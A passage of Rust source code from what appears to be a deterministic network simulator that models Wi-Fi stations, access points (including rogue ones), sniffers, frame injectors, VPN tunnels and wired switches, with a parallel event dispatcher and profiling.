/// Payload of a frame crossing a switch toward a bridge AP radio.
struct BridgeFrame {
    node: u32,
    radio: u32,
    bytes: Bytes,
}

/// Payload of a frame copied to a span-port tap.
struct TapFrame {
    node: u32,
    bytes: Bytes,
}

enum Event {
    TxComplete { tx: TxHandle },
    NodePoll { node: u32 },
    WireDeliver(Box<WireFrame>),
    BridgeDeliver(Box<BridgeFrame>),
    TapDeliver(Box<TapFrame>),
}

// The hot queue moves events by value constantly; keep them at two
// words (tag + payload) so a wheel slot stays cache-line friendly.
const _: () = assert!(std::mem::size_of::<Event>() <= 16);

/// Profiler kind-cell index of an event (indexes [`World::prof_kinds`]).
fn event_kind(ev: &Event) -> usize {
    match ev {
        Event::TxComplete { .. } => 0,
        Event::NodePoll { .. } => 1,
        Event::WireDeliver(_) => 2,
        Event::BridgeDeliver(_) => 3,
        Event::TapDeliver(_) => 4,
    }
}

/// `sim.prof.*` metric keys for the per-phase nanosecond totals, in
/// [`Phase`] order.
const PROF_PHASE_KEYS: [&str; rogue_sim::profile::NUM_PHASES] = [
    "sim.prof.queue_pop_ns",
    "sim.prof.queue_schedule_ns",
    "sim.prof.medium_plan_ns",
    "sim.prof.medium_commit_ns",
    "sim.prof.deliver_ns",
    "sim.prof.poll_ns",
    "sim.prof.op_commit_ns",
    "sim.prof.exec_wall_ns",
];

/// `sim.prof.*` metric keys for the per-event-kind nanosecond totals,
/// in [`event_kind`] order.
const PROF_KIND_KEYS: [&str; 5] = [
    "sim.prof.ev_tx_complete_ns",
    "sim.prof.ev_node_poll_ns",
    "sim.prof.ev_wire_deliver_ns",
    "sim.prof.ev_bridge_deliver_ns",
    "sim.prof.ev_tap_deliver_ns",
];

/// A radio's MAC-layer role.
enum RadioRole {
    Sta {
        mac: StaMac,
        iface: IfIndex,
    },
    ApLocal {
        mac: ApMac,
        iface: IfIndex,
    },
    ApBridge {
        mac: ApMac,
        port: Option<(usize, usize)>,
    },
    Monitor {
        sniffer: Sniffer,
    },
    Injector {
        injector: Box<dyn FrameInjector>,
    },
}

struct RadioBinding {
    radio: RadioId,
    role: RadioRole,
}

enum TunRole {
    Client(VpnClient),
    Server(VpnServer),
}

struct TunBinding {
    iface: IfIndex,
    role: TunRole,
}

struct Node {
    name: String,
    host: Host,
    radios: Vec<RadioBinding>,
    wired: Vec<(IfIndex, (usize, usize))>,
    tun: Option<TunBinding>,
    apps: Vec<Box<dyn App>>,
    wired_monitor: Option<WiredMonitor>,
    wire_tap: Option<WireTap>,
    scheduled_poll: SimTime,
    /// Queue entry of the pending `NodePoll`, kept so rescheduling an
    /// *earlier* poll (or a `kick`) can cancel the outstanding one
    /// instead of leaving a redundant entry behind. Invariant: `Some`
    /// exactly while `scheduled_poll != FOREVER`, and the entry fires at
    /// `scheduled_poll`.
    poll_event: Option<(usize, EventId)>,
}

/// A deferred shared-state effect produced by node-local event work.
///
/// Dispatching an event splits into two halves: *node work* (MAC state
/// machines, the IP stack, apps — everything owned by one [`Node`]) and
/// *ops* — every effect that touches state shared across nodes: medium
/// mutations, queue inserts, switch forwarding, metrics, the event
/// logs. Node work emits ops in exactly the order the old inline code
/// performed the mutations, so committing ops in emission order
/// reproduces the serial mutation sequence — sequence-number
/// assignment, RNG draws, `mac_events` order — byte for byte. That is
/// the whole bit-identity argument for the parallel dispatcher (DESIGN
/// §17): node work can run on any thread in any interleaving because
/// everything it touches is node-local, and the commit point replays
/// the shared-state effects in canonical `(time, seq)` event order.
enum Op {
    /// Begin transmitting on `radio`; schedules the completion event.
    BeginTx {
        radio: RadioId,
        bytes: Bytes,
        bitrate: Bitrate,
    },
    /// Retune `radio`.
    SetChannel { radio: RadioId, channel: u8 },
    /// Inject a frame into switch `sw` at `in_port`. Loss/jitter RNG
    /// draws happen at commit, keeping the world-RNG call sequence
    /// identical to the serial loop's.
    SwitchTx { sw: u32, in_port: u32, bytes: Bytes },
    /// The node's pending poll entry fired: clear the bookkeeping so a
    /// later `SchedulePoll` in the same event passes its gate.
    PollFired { node: u32 },
    /// (Re)schedule the node's next poll; the earlier-poll gate is
    /// evaluated at commit, against whatever preceding ops left
    /// `scheduled_poll` at.
    SchedulePoll { node: u32, wake: SimTime },
    /// Record a MAC milestone (metrics counter + the `mac_events` log).
    Mac { node: u32, ev: MacEvent },
    /// Record an application milestone.
    App { node: u32, ev: AppEvent },
}

/// Pooled buffers for node-local event work — per-thread in the
/// parallel dispatcher, a single pooled instance in the serial loop.
#[derive(Default)]
struct NodeScratch {
    mac_outs: Vec<MacOutput>,
    app_events: Vec<AppEvent>,
    frames: Vec<(IfIndex, Bytes)>,
}

/// One node's view of an event dispatch: mutable access to the node
/// itself plus the op buffer collecting its deferred shared-state
/// effects. Everything reachable from here is node-local by
/// construction, which is what makes a `NodeCtx` safe to drive from a
/// rayon worker while other workers drive other nodes.
struct NodeCtx<'a> {
    now: SimTime,
    idx: usize,
    node: &'a mut Node,
    ops: &'a mut Vec<Op>,
    scratch: &'a mut NodeScratch,
}

impl NodeCtx<'_> {
    /// Deliver decoded PHY bytes to one of the node's radios.
    fn receive_on_radio(&mut self, radio: usize, bytes: &Bytes, rssi: f64, channel: u8) {
        let mut outs = std::mem::take(&mut self.scratch.mac_outs);
        debug_assert!(outs.is_empty());
        match &mut self.node.radios[radio].role {
            RadioRole::Sta { mac, .. } => mac.on_receive(self.now, bytes, rssi, channel, &mut outs),
            RadioRole::ApLocal { mac, .. } | RadioRole::ApBridge { mac, .. } => {
                mac.on_receive(self.now, bytes, rssi, channel, &mut outs)
            }
            RadioRole::Monitor { sniffer } => sniffer.on_receive(self.now, bytes, rssi, channel),
            RadioRole::Injector { .. } => {}
        }
        self.process_mac_outputs(radio, &mut outs);
        self.scratch.mac_outs = outs;
    }

    /// Drain a batch of MAC outputs into node-local effects and ops.
    fn process_mac_outputs(&mut self, radio: usize, outs: &mut Vec<MacOutput>) {
        for out in outs.drain(..) {
            match out {
                MacOutput::Tx { bytes, bitrate } => {
                    let radio = self.node.radios[radio].radio;
                    self.ops.push(Op::BeginTx {
                        radio,
                        bytes,
                        bitrate,
                    });
                }
                MacOutput::SetChannel(ch) => {
                    let radio = self.node.radios[radio].radio;
                    self.ops.push(Op::SetChannel { radio, channel: ch });
                }
                MacOutput::DeliverData {
                    src,
                    dst,
                    ethertype,
                    payload,
                } => {
                    self.deliver_up(radio, src, dst, ethertype, payload);
                }
                MacOutput::Event(ev) => {
                    self.ops.push(Op::Mac {
                        node: self.idx as u32,
                        ev,
                    });
                }
            }
        }
    }

    fn deliver_up(
        &mut self,
        radio: usize,
        src: MacAddr,
        dst: MacAddr,
        ethertype: u16,
        payload: Bytes,
    ) {
        enum Up {
            Host(IfIndex),
            Bridge(Option<(usize, usize)>),
        }
        let up = match &self.node.radios[radio].role {
            RadioRole::Sta { iface, .. } | RadioRole::ApLocal { iface, .. } => Up::Host(*iface),
            RadioRole::ApBridge { port, .. } => Up::Bridge(*port),
            _ => return,
        };
        let frame = EthFrame::new(dst, src, ethertype, payload).encode();
        match up {
            Up::Host(iface) => {
                self.node.host.on_link_rx(self.now, iface, &frame);
            }
            Up::Bridge(Some((sw, port))) => {
                self.ops.push(Op::SwitchTx {
                    sw: sw as u32,
                    in_port: port as u32,
                    bytes: frame,
                });
            }
            Up::Bridge(None) => {}
        }
    }

    /// A wired frame arriving at a bridge AP radio from its switch port.
    fn bridge_wired_rx(&mut self, radio: usize, bytes: &Bytes) {
        let Some(eth) = EthFrame::decode(bytes) else {
            return;
        };
        if let RadioRole::ApBridge { mac, .. } = &mut self.node.radios[radio].role {
            if eth.dst.is_multicast() || mac.is_associated(eth.dst) {
                mac.send_data(self.now, eth.src, eth.dst, eth.ethertype, &eth.payload);
            }
        }
    }

    fn poll_node(&mut self) {
        let now = self.now;
        // 1. Stack timers.
        self.node.host.poll(now);

        // 2. MAC entities.
        let radio_count = self.node.radios.len();
        for r in 0..radio_count {
            let mut outs = std::mem::take(&mut self.scratch.mac_outs);
            debug_assert!(outs.is_empty());
            match &mut self.node.radios[r].role {
                RadioRole::Sta { mac, .. } => mac.poll(now, &mut outs),
                RadioRole::ApLocal { mac, .. } | RadioRole::ApBridge { mac, .. } => {
                    mac.poll(now, &mut outs)
                }
                RadioRole::Injector { injector } => injector.poll(now, &mut outs),
                RadioRole::Monitor { .. } => {}
            }
            self.process_mac_outputs(r, &mut outs);
            self.scratch.mac_outs = outs;
        }

        // 3. Applications (they own sockets on the host). The VPN tun
        //    role runs FIRST: it decrypts freshly received records and
        //    injects the inner packets, so ordinary apps observe
        //    up-to-date socket state in the same poll (otherwise a
        //    response arriving through the tunnel would not be seen
        //    until the next timer, stalling inner TCP by a full RTO).
        {
            let mut events = std::mem::take(&mut self.scratch.app_events);
            debug_assert!(events.is_empty());
            let n = &mut *self.node;
            if let Some(tun) = &mut n.tun {
                match &mut tun.role {
                    TunRole::Client(c) => c.poll(now, &mut n.host, &mut events),
                    TunRole::Server(s) => s.poll(now, &mut n.host, &mut events),
                }
            }
            for app in &mut n.apps {
                app.poll(now, &mut n.host, &mut events);
            }
            for ev in events.drain(..) {
                self.ops.push(Op::App {
                    node: self.idx as u32,
                    ev,
                });
            }
            self.scratch.app_events = events;
        }

        // 4. Drain stack output, possibly several rounds (tun
        //    encapsulation generates new transport frames).
        let mut frames = std::mem::take(&mut self.scratch.frames);
        for _round in 0..8 {
            debug_assert!(frames.is_empty());
            self.node.host.take_frames_into(&mut frames);
            if frames.is_empty() {
                break;
            }
            for (ifx, bytes) in frames.drain(..) {
                self.dispatch_host_frame(ifx, bytes);
            }
        }
        self.scratch.frames = frames;

        // 5. Schedule the next poll.
        let wake = node_next_wake(self.node);
        if wake != SimTime::FOREVER {
            self.ops.push(Op::SchedulePoll {
                node: self.idx as u32,
                wake,
            });
        }
    }

    fn dispatch_host_frame(&mut self, ifx: IfIndex, bytes: Bytes) {
        // Tun device?
        if let Some(tun) = &mut self.node.tun {
            if tun.iface == ifx {
                let mut binding = self.node.tun.take().expect("just checked");
                match &mut binding.role {
                    TunRole::Client(c) => c.consume_tun_frame(self.now, &mut self.node.host, &bytes),
                    TunRole::Server(s) => s.consume_tun_frame(self.now, &mut self.node.host, &bytes),
                }
                self.node.tun = Some(binding);
                return;
            }
        }
        // Wired port?
        if let Some(&(_, (sw, port))) = self.node.wired.iter().find(|(i, _)| *i == ifx) {
            self.ops.push(Op::SwitchTx {
                sw: sw as u32,
                in_port: port as u32,
                bytes,
            });
            return;
        }
        // Wireless NIC?
        let radio = self
            .node
            .radios
            .iter()
            .position(|rb| match &rb.role {
                RadioRole::Sta { iface, .. } | RadioRole::ApLocal { iface, .. } => *iface == ifx,
                _ => false,
            });
        if let Some(r) = radio {
            let Some(eth) = EthFrame::decode(&bytes) else {
                return;
            };
            match &mut self.node.radios[r].role {
                RadioRole::Sta { mac, .. } => {
                    mac.send_data(self.now, eth.dst, eth.ethertype, &eth.payload);
                }
                RadioRole::ApLocal { mac, .. } => {
                    mac.send_data(self.now, eth.src, eth.dst, eth.ethertype, &eth.payload);
                }
                _ => unreachable!(),
            }
        }
    }
}

/// Earliest instant any of the node's components needs a poll.
fn node_next_wake(n: &Node) -> SimTime {
    let mut wake = n.host.next_wake();
    for rb in &n.radios {
        wake = wake.min(match &rb.role {
            RadioRole::Sta { mac, .. } => mac.next_wake(),
            RadioRole::ApLocal { mac, .. } | RadioRole::ApBridge { mac, .. } => mac.next_wake(),
            RadioRole::Injector { injector } => injector.next_wake(),
            RadioRole::Monitor { .. } => SimTime::FOREVER,
        });
    }
    for app in &n.apps {
        wake = wake.min(app.next_wake());
    }
    if let Some(tun) = &n.tun {
        wake = wake.min(match &tun.role {
            TunRole::Client(c) => c.next_wake(),
            TunRole::Server(s) => s.next_wake(),
        });
    }
    wake
}

/// One unit of node-local work inside a parallel burst: everything a
/// single event does to a single node, with shared-state effects
/// deferred as [`Op`]s. Tasks are built in canonical order — event
/// order; within a `TxComplete`, deliveries in plan order, then
/// first-touch polls — so committing task ops in task order replays
/// the serial schedule exactly.
enum TaskKind {
    /// Deliver decoded PHY bytes to one radio (from a frozen plan).
    Receive {
        radio: u32,
        bytes: Bytes,
        rssi_dbm: f64,
        channel: u8,
    },
    /// Post-delivery poll of a node touched by a `TxComplete`.
    TouchPoll,
    /// A `NodePoll` event: clears the poll handle (as its first op),
    /// then polls.
    PollEvent,
    /// A `WireDeliver` event: host link-rx, then poll.
    HostRx { iface: IfIndex, bytes: Bytes },
    /// A `BridgeDeliver` event: bridge-AP wired-rx, then poll.
    BridgeRx { radio: u32, bytes: Bytes },
    /// A `TapDeliver` event: span-port copy into monitor + tap log.
    Tap { bytes: Bytes },
}

struct Task {
    /// Index of the owning event within the burst prefix.
    event: u32,
    /// The node whose state this task mutates — the partition key.
    node: u32,
    kind: TaskKind,
}

/// Raw-pointer view of the world's node slab, shared with the rayon
/// pool during a parallel burst.
///
/// Safety: the dispatcher groups tasks into per-node chains and hands
/// each chain to exactly one worker, so no two workers ever reach the
/// same `Node`; the owning `Vec` is neither resized nor dropped while
/// the view is live.
#[derive(Clone, Copy)]
struct NodesView {
    ptr: *mut Node,
}
unsafe impl Send for NodesView {}
unsafe impl Sync for NodesView {}

thread_local! {
    /// Per-worker pooled buffers for parallel burst execution.
    static EXEC_SCRATCH: std::cell::RefCell<NodeScratch> =
        std::cell::RefCell::new(NodeScratch::default());
}

/// Raw frames copied off a switch by a passive span port, in arrival
/// order — the wired-side analogue of [`Sniffer`], consumed by streaming
/// analyzers (rogue-wids) that digest the buffer incrementally.
#[derive(Default)]
pub struct WireTap {
    /// Captured (time, frame bytes) pairs.
    pub frames: Vec<(SimTime, Bytes)>,
}

enum PortTarget {
    HostIface { node: usize, iface: IfIndex },
    Bridge { node: usize, radio: usize },
    Tap { node: usize },
}

struct Switch {
    latency: SimDuration,
    /// Independent per-frame drop probability (models a lossy segment
    /// for the E5 tunnel-transport comparison; 0 on clean LANs).
    loss: f64,
    /// Uniform extra delay in [0, jitter] per frame. Nonzero jitter
    /// reorders frames — a stress knob for the TCP reassembly path.
    jitter: SimDuration,
    ports: Vec<PortTarget>,
    table: HashMap<MacAddr, usize>,
    frames: u64,
}

/// The composed world.
pub struct World {
    /// The shared radio medium.
    pub medium: Medium,
    queue: ShardedQueue<Event>,
    /// Spatial shard ownership, built lazily from the radio extent on
    /// the first sharded `run_until`. `None` while single-sharded or
    /// before the first run.
    region_map: Option<RegionMap>,
    /// Lockstep window width for the sharded loop. Purely a batching
    /// knob: correctness is guarded by the medium's channel-version
    /// conflict detection, so any width yields bit-identical output.
    window: SimDuration,
    /// Shard whose event is currently being dispatched (0 while idle or
    /// single-sharded); a schedule targeting a different shard is a
    /// boundary crossing.
    current_shard: usize,
    sim_windows: u64,
    sim_boundary_crossings: u64,
    sim_plans_parallel: u64,
    sim_plans_committed: u64,
    sim_plans_stale: u64,
    sim_shard_occupancy_max: u64,
    nodes: Vec<Node>,
    switches: Vec<Switch>,
    radio_owner: Vec<(usize, usize)>, // RadioId.0 -> (node, radio idx)
    rng: SimRng,
    /// Always-on hot-path cycle profiler (wall-clock attribution; only
    /// surfaced through `sim.prof.*` metrics and bench JSONs, never a
    /// golden table).
    prof: Profiler,
    /// Kind-cell indices, in [`event_kind`] order.
    prof_kinds: [usize; 5],
    /// Total `schedule_event` calls; the 1-in-64-sampled QueueSchedule
    /// phase extrapolates from this at snapshot time.
    sched_count: u64,
    // Pooled scratch buffers, reused across every event dispatch.
    ops_scratch: Vec<Op>,
    node_scratch: NodeScratch,
    touched_scratch: Vec<usize>,
    /// Node → chain index during parallel burst construction
    /// (`u32::MAX` = unassigned); sized to the node count, entries
    /// reset after every burst so no O(nodes) clear on the hot path.
    chain_map: Vec<u32>,
    /// MAC protocol milestones, in order: (time, node, event).
    pub mac_events: Vec<(SimTime, NodeId, MacEvent)>,
    /// Application milestones, in order.
    pub app_events: Vec<(SimTime, NodeId, AppEvent)>,
    /// Aggregate run counters (associations, forced kicks, WEP failures,
    /// switch frames) — mergeable across Monte-Carlo replications.
    pub metrics: Metrics,
}

/// Process-wide default shard count for new worlds; see
/// [`with_default_shards`].
static DEFAULT_SHARDS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(1);

/// Run `f` with every [`World::new`] in scope starting at `n` event-loop
/// shards, restoring the previous default afterwards (panic-safe).
/// Sharding is bit-identical by construction, so this knob exists for
/// exactly one purpose: letting the determinism suite re-render whole
/// experiment reports — whose drivers build worlds internally — under
/// shard counts the drivers never ask for. Concurrent scopes are
/// serialized by a global lock, like [`rayon::with_num_threads`].
pub fn with_default_shards<R>(n: usize, f: impl FnOnce() -> R) -> R {
    use std::sync::atomic::Ordering;
    static SCOPE: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _scope = SCOPE.lock().unwrap_or_else(|p| p.into_inner());
    let previous = DEFAULT_SHARDS.swap(n.max(1), Ordering::Relaxed);
    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(f));
    DEFAULT_SHARDS.store(previous, Ordering::Relaxed);
    match outcome {
        Ok(value) => value,
        Err(payload) => std::panic::resume_unwind(payload),
    }
}

impl World {
    /// New empty world.
    pub fn new(seed: Seed, params: MediumParams) -> World {
        let mut rng = SimRng::new(seed);
        let mut prof = Profiler::new();
        let prof_kinds = [
            prof.register_kind("tx_complete"),
            prof.register_kind("node_poll"),
            prof.register_kind("wire_deliver"),
            prof.register_kind("bridge_deliver"),
            prof.register_kind("tap_deliver"),
        ];
        World {
            medium: Medium::new(params, Seed(rng.next_u64())),
            queue: ShardedQueue::new(DEFAULT_SHARDS.load(std::sync::atomic::Ordering::Relaxed)),
            region_map: None,
            window: SimDuration::from_millis(1),
            current_shard: 0,
            sim_windows: 0,
            sim_boundary_crossings: 0,
            sim_plans_parallel: 0,
            sim_plans_committed: 0,
            sim_plans_stale: 0,
            sim_shard_occupancy_max: 0,
            nodes: Vec::new(),
            switches: Vec::new(),
            radio_owner: Vec::new(),
            rng,
            prof,
            prof_kinds,
            sched_count: 0,
            ops_scratch: Vec::new(),
            node_scratch: NodeScratch::default(),
            touched_scratch: Vec::new(),
            chain_map: Vec::new(),
            mac_events: Vec::new(),
            app_events: Vec::new(),
            metrics: Metrics::default(),
        }
    }

    /// Current simulation time.
    pub fn now(&self) -> SimTime {
        self.queue.now()
    }

    /// Add a wired switch segment.
    pub fn add_switch(&mut self, latency: SimDuration) -> SwitchId {
        self.add_switch_lossy(latency, 0.0)
    }

    /// Add a wired segment that drops each frame with probability `loss`.
    pub fn add_switch_lossy(&mut self, latency: SimDuration, loss: f64) -> SwitchId {
        self.add_switch_impaired(latency, loss, SimDuration::ZERO)
    }

    /// Add a wired segment with loss *and* per-frame jitter (which
    /// reorders frames whose delays overlap).
    pub fn add_switch_impaired(
        &mut self,
        latency: SimDuration,
        loss: f64,
        jitter: SimDuration,
    ) -> SwitchId {
        self.switches.push(Switch {
            latency,
            loss,
            jitter,
            ports: Vec::new(),
            table: HashMap::new(),
            frames: 0,
        });
        SwitchId(self.switches.len() - 1)
    }

    /// Add a machine.
    pub fn add_node(&mut self, name: &str) -> NodeId {
        let host = Host::new(name, self.rng.fork(self.nodes.len() as u64 + 0x4000));
        self.nodes.push(Node {
            name: name.to_string(),
            host,
            radios: Vec::new(),
            wired: Vec::new(),
            tun: None,
            apps: Vec::new(),
            wired_monitor: None,
            wire_tap: None,
            scheduled_poll: SimTime::FOREVER,
            poll_event: None,
        });
        NodeId(self.nodes.len() - 1)
    }

    /// Node name (diagnostics).
    pub fn node_name(&self, n: NodeId) -> &str {
        &self.nodes[n.0].name
    }

    /// Borrow a node's IP stack.
    pub fn host(&self, n: NodeId) -> &Host {
        &self.nodes[n.0].host
    }

    /// Mutably borrow a node's IP stack (scenario setup: routes, NAT…).
    pub fn host_mut(&mut self, n: NodeId) -> &mut Host {
        &mut self.nodes[n.0].host
    }

    // ------------------------------------------------------------------
    // Component attachment
    // ------------------------------------------------------------------

    fn register_radio(&mut self, node: usize, pos: Pos, channel: u8, power: f64) -> RadioId {
        let id = self.medium.add_radio(pos, channel, power);
        debug_assert_eq!(id.0 as usize, self.radio_owner.len());
        self.radio_owner.push((node, self.nodes[node].radios.len()));
        id
    }

    /// Attach a managed-mode (station) NIC: radio + MAC + host interface.
    /// Returns (radio index within node, host interface index).
    pub fn add_sta(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        cfg: StaConfig,
        ip: Ipv4Addr,
        prefix_len: u8,
    ) -> (usize, IfIndex) {
        let now = self.queue.now();
        self.add_sta_starting_at(n, pos, tx_power_dbm, cfg, ip, prefix_len, now)
    }

    /// Like [`World::add_sta`], but the station's scan clock starts at
    /// `start_at` — a device powered on mid-run. City-scale worlds
    /// stagger joins this way; stations all created at time zero would
    /// finish their scan sweeps simultaneously and pile every
    /// association exchange onto one instant, a synchronized storm no
    /// real deployment produces.
    #[allow(clippy::too_many_arguments)]
    pub fn add_sta_starting_at(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        cfg: StaConfig,
        ip: Ipv4Addr,
        prefix_len: u8,
        start_at: SimTime,
    ) -> (usize, IfIndex) {
        let channel = cfg.channels[0];
        let radio = self.register_radio(n.0, pos, channel, tx_power_dbm);
        let iface = self.nodes[n.0].host.add_iface(cfg.mac, ip, prefix_len);
        let mac = StaMac::new(cfg, self.rng.fork(radio.0 as u64), start_at);
        self.nodes[n.0].radios.push(RadioBinding {
            radio,
            role: RadioRole::Sta { mac, iface },
        });
        self.schedule_poll(n.0, start_at.max(self.queue.now()));
        (self.nodes[n.0].radios.len() - 1, iface)
    }

    /// Attach a master-mode NIC on a routing machine (the rogue gateway's
    /// `wlan0`): AP MAC + host interface.
    pub fn add_ap_local(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        cfg: ApConfig,
        ip: Ipv4Addr,
        prefix_len: u8,
    ) -> (usize, IfIndex) {
        let now = self.queue.now();
        self.add_ap_local_starting_at(n, pos, tx_power_dbm, cfg, ip, prefix_len, now)
    }

    /// Like [`World::add_ap_local`], but the AP stays silent until
    /// `start_at` — a rogue brought up mid-run.
    #[allow(clippy::too_many_arguments)]
    pub fn add_ap_local_starting_at(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        cfg: ApConfig,
        ip: Ipv4Addr,
        prefix_len: u8,
        start_at: rogue_sim::SimTime,
    ) -> (usize, IfIndex) {
        let radio = self.register_radio(n.0, pos, cfg.channel, tx_power_dbm);
        let iface = self.nodes[n.0].host.add_iface(cfg.bssid, ip, prefix_len);
        let mac = ApMac::new_starting_at(cfg, self.rng.fork(radio.0 as u64), start_at);
        self.nodes[n.0].radios.push(RadioBinding {
            radio,
            role: RadioRole::ApLocal { mac, iface },
        });
        self.schedule_poll(n.0, self.queue.now());
        (self.nodes[n.0].radios.len() - 1, iface)
    }

    /// Attach a standalone infrastructure AP that bridges 802.11 to a
    /// wired switch (the legitimate corporate AP).
    pub fn add_ap_bridge(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        cfg: ApConfig,
        switch: Option<SwitchId>,
    ) -> usize {
        let radio = self.register_radio(n.0, pos, cfg.channel, tx_power_dbm);
        let mac = ApMac::new(cfg, self.rng.fork(radio.0 as u64), self.queue.now());
        let radio_idx = self.nodes[n.0].radios.len();
        let port = switch.map(|sw| {
            let port = self.switches[sw.0].ports.len();
            self.switches[sw.0].ports.push(PortTarget::Bridge {
                node: n.0,
                radio: radio_idx,
            });
            (sw.0, port)
        });
        self.nodes[n.0].radios.push(RadioBinding {
            radio,
            role: RadioRole::ApBridge { mac, port },
        });
        self.schedule_poll(n.0, self.queue.now());
        radio_idx
    }

    /// Attach a wired NIC to a switch.
    pub fn add_wired_iface(
        &mut self,
        n: NodeId,
        switch: SwitchId,
        mac: MacAddr,
        ip: Ipv4Addr,
        prefix_len: u8,
    ) -> IfIndex {
        let iface = self.nodes[n.0].host.add_iface(mac, ip, prefix_len);
        let port = self.switches[switch.0].ports.len();
        self.switches[switch.0]
            .ports
            .push(PortTarget::HostIface { node: n.0, iface });
        self.nodes[n.0].wired.push((iface, (switch.0, port)));
        iface
    }

    /// Attach a monitor-mode radio (sniffer) on `channel`.
    pub fn add_monitor(&mut self, n: NodeId, pos: Pos, channel: u8) -> usize {
        let radio = self.register_radio(n.0, pos, channel, 15.0);
        self.nodes[n.0].radios.push(RadioBinding {
            radio,
            role: RadioRole::Monitor {
                sniffer: Sniffer::new(),
            },
        });
        self.nodes[n.0].radios.len() - 1
    }

    /// Retune a node's radio (channel-hopping audits).
    pub fn set_radio_channel(&mut self, n: NodeId, radio_idx: usize, channel: u8) {
        let radio = self.nodes[n.0].radios[radio_idx].radio;
        self.medium.set_channel(radio, channel);
    }

    /// Raw medium identifier of a node's radio (mobility drivers move
    /// radios via `world.medium.set_pos`).
    pub fn radio_id(&self, n: NodeId, radio_idx: usize) -> RadioId {
        self.nodes[n.0].radios[radio_idx].radio
    }

    /// Borrow a monitor radio's capture buffer.
    pub fn sniffer(&self, n: NodeId, radio_idx: usize) -> &Sniffer {
        match &self.nodes[n.0].radios[radio_idx].role {
            RadioRole::Monitor { sniffer } => sniffer,
            _ => panic!("radio {radio_idx} is not a monitor"),
        }
    }

    /// Attach a raw-frame injector (forged deauth, spoofed beacons,
    /// any [`FrameInjector`] schedule) on `channel`.
    pub fn add_injector(
        &mut self,
        n: NodeId,
        pos: Pos,
        tx_power_dbm: f64,
        channel: u8,
        injector: impl FrameInjector + 'static,
    ) -> usize {
        let radio = self.register_radio(n.0, pos, channel, tx_power_dbm);
        self.nodes[n.0].radios.push(RadioBinding {
            radio,
            role: RadioRole::Injector {
                injector: Box::new(injector),
            },
        });
        self.schedule_poll(n.0, self.queue.now());
        self.nodes[n.0].radios.len() - 1
    }

    /// Attach a wired-segment monitor as a switch tap (span port).
    pub fn add_wired_monitor(&mut self, n: NodeId, switch: SwitchId, monitor: WiredMonitor) {
        self.switches[switch.0]
            .ports
            .push(PortTarget::Tap { node: n.0 });
        self.nodes[n.0].wired_monitor = Some(monitor);
    }

    /// Borrow the node's wired monitor.
    pub fn wired_monitor(&self, n: NodeId) -> Option<&WiredMonitor> {
        self.nodes[n.0].wired_monitor.as_ref()
    }

    /// Attach a raw wired tap (span port) that buffers every frame the
    /// switch carries, for streaming consumers.
    pub fn add_wire_tap(&mut self, n: NodeId, switch: SwitchId) {
        if self.nodes[n.0].wire_tap.is_none() {
            self.nodes[n.0].wire_tap = Some(WireTap::default());
        }
        self.switches[switch.0]
            .ports
            .push(PortTarget::Tap { node: n.0 });
    }

    /// Borrow the node's raw wired tap buffer.
    pub fn wire_tap(&self, n: NodeId) -> Option<&WireTap> {
        self.nodes[n.0].wire_tap.as_ref()
    }

    /// Add a tun device interface (before constructing the VPN app).
    pub fn add_tun_iface(
        &mut self,
        n: NodeId,
        mac: MacAddr,
        ip: Ipv4Addr,
        prefix_len: u8,
    ) -> IfIndex {
        self.nodes[n.0].host.add_iface(mac, ip, prefix_len)
    }

    /// Attach a VPN client to its tun interface.
    pub fn attach_vpn_client(&mut self, n: NodeId, iface: IfIndex, client: VpnClient) {
        self.nodes[n.0].tun = Some(TunBinding {
            iface,
            role: TunRole::Client(client),
        });
        self.schedule_poll(n.0, self.queue.now());
    }

    /// Attach a VPN endpoint to its tun interface.
    pub fn attach_vpn_server(&mut self, n: NodeId, iface: IfIndex, server: VpnServer) {
        self.nodes[n.0].tun = Some(TunBinding {
            iface,
            role: TunRole::Server(server),
        });
        self.schedule_poll(n.0, self.queue.now());
    }

    /// Borrow the node's VPN client.
    pub fn vpn_client(&self, n: NodeId) -> Option<&VpnClient> {
        match &self.nodes[n.0].tun {
            Some(TunBinding {
                role: TunRole::Client(c),
                ..
            }) => Some(c),
            _ => None,
        }
    }

    /// Borrow the node's VPN endpoint.
    pub fn vpn_server(&self, n: NodeId) -> Option<&VpnServer> {
        match &self.nodes[n.0].tun {
            Some(TunBinding {
                role: TunRole::Server(s),
                ..
            }) => Some(s),
            _ => None,
        }
    }

    /// Attach an application; returns its index for later downcast reads.
    pub fn add_app(&mut self, n: NodeId, app: Box<dyn App>) -> usize {
        self.nodes[n.0].apps.push(app);
        self.schedule_poll(n.0, self.queue.now());
        self.nodes[n.0].apps.len() - 1
    }

    /// Downcast-borrow an application.
    pub fn app<T: App>(&self, n: NodeId, idx: usize) -> &T {
        self.nodes[n.0].apps[idx]
            .as_any()
            .downcast_ref::<T>()
            .expect("app type mismatch")
    }

    /// Downcast-borrow an application mutably.
    pub fn app_mut<T: App>(&mut self, n: NodeId, idx: usize) -> &mut T {
        self.nodes[n.0].apps[idx]
            .as_any_mut()
            .downcast_mut::<T>()
            .expect("app type mismatch")
    }

    /// Borrow a station MAC.
    pub fn sta(&self, n: NodeId, radio_idx: usize) -> &StaMac {
        match &self.nodes[n.0].radios[radio_idx].role {
            RadioRole::Sta { mac, .. } => mac,
            _ => panic!("radio {radio_idx} is not a station"),
        }
    }

    /// Borrow an AP MAC (local or bridge).
    pub fn ap(&self, n: NodeId, radio_idx: usize) -> &ApMac {
        match &self.nodes[n.0].radios[radio_idx].role {
            RadioRole::ApLocal { mac, .. } | RadioRole::ApBridge { mac, .. } => mac,
            _ => panic!("radio {radio_idx} is not an AP"),
        }
    }

    /// Convenience: a station's current association state.
    pub fn sta_state(&self, n: NodeId, radio_idx: usize) -> StaState {
        self.sta(n, radio_idx).state().clone()
    }

    // ------------------------------------------------------------------
    // Event loop
    // ------------------------------------------------------------------

    /// Partition the event loop into `n` spatial shards (DESIGN.md §15).
    ///
    /// Must be called before the first `run_until`. Events already
    /// queued during setup migrate into the new layout with their
